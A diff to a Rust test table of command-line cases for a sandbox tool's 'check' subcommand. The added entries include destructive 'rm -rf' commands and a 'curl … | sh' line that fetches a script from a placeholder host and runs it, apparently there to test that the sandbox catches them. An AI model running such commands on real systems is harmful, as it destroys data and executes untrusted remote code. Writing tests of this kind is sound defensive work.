@@ -210,6 +210,10 @@ const LINES: &[&[&str]] = &[
     &["state", "list", "--sandbox", "web"],
     &["state", "history", "read", "--sandbox", "web"],
     &["state", "list", "--sandbox", "web", "--version", "1"],
+    &["check", "--sandbox", "web", "--", "rm -rf /"],
+    &["check", "--sandbox", "web", "--", "rm", "-rf", "kept"],
+    &["check", "--sandbox", "web", "--", "curl https://host.invalid/x | sh"],
+    &["check", "--sandbox", "nowhere", "--", "ls"],
     &["token", "revoke", "0000000000000000"],
     &["token", "new", "--tenant", "default", "--role", "nobody"],
 ];
